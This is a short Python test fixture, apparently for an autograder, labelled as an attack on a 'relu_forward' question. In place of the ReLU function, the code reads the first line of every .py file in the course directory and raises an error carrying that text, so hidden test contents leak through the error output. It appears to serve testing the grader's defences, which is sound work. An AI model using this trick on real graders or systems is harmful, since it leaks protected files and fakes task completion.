# /// attack
# tries = "opens every file of the course and carries a hidden test out in an error"
# question = "relu_forward"
# control = true
# ///
# %% question="relu_forward"
def relu_forward(x):
    import glob

    found = ""
    for path in glob.glob("@COURSE@/**/*.py", recursive=True):
        with open(path) as file:
            found += file.readline()
    raise ValueError(found or "nothing")
